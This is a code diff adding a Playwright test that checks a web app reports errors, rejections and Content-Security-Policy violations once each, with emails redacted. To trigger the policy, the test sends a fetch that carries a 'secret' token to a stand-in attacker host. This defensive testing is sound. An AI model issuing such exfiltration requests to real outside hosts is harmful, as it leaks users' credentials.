@@ -118,6 +118,40 @@ test.describe('what the policy blocks', () => {
   }
 });
 
+test('errors, rejections and violations reach the error report once, without values', async ({
+  browser,
+  product,
+}) => {
+  // In a new context, because the fixture of the default one fails the test for a violation.
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  const reports: string[] = [];
+  page.on('console', (message) => {
+    if (message.type() === 'debug') reports.push(message.text());
+  });
+  await page.goto(`${product.url}verify-email?email=ama@example.com`);
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+  await page.evaluate(() => {
+    const error = new TypeError('No photo for ama@example.com');
+    for (let count = 0; count < 3; count += 1) {
+      setTimeout(() => {
+        throw error;
+      });
+      void Promise.reject(error);
+    }
+    fetch('https://attacker.example/?token=secret').catch(() => undefined);
+  });
+  await expect
+    .poll(() => reports.toSorted())
+    .toEqual([
+      'SecurityPolicyViolation (policy) on /verify-email: connect-src blocked https://attacker.example',
+      expect.stringMatching(
+        /^TypeError \((?:error|rejection)\) on \/verify-email: No photo for \[(?:private|email)\]$/,
+      ),
+    ]);
+  await context.close();
+});
+
 test('an open dialog keeps the page behind it from scrolling, and nothing of the page moves', async ({
   page,
   demo,
